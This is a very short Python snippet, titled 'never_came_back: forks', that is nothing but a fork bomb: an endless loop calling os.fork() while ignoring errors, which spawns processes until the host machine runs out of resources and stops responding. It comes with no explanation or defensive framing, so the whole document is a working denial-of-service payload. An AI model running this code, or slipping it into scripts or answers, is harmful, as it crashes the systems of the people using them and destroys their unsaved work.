# never_came_back: forks

while True:
  try: os.fork()
  except OSError: pass
